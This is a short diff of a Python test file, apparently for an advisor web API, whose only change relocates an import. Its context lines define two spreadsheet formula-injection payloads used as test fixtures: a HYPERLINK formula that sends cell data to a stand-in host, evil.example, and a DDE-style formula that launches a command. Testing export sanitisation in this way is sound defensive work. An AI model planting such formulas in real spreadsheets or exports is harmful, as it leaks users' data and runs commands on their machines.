@@ -18,7 +18,7 @@ from advisor.api import examples
 from graph_schema.models import ResultDocument
 from graph_schema.registry import open_store
 from graph_schema.store import Store
-from tests.advisor.web.conftest import make_app
+from tests.support.api import make_app
 
 FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 FORMULA_RUN = "@SUM(1+1)*cmd|' /C calc'!A0"
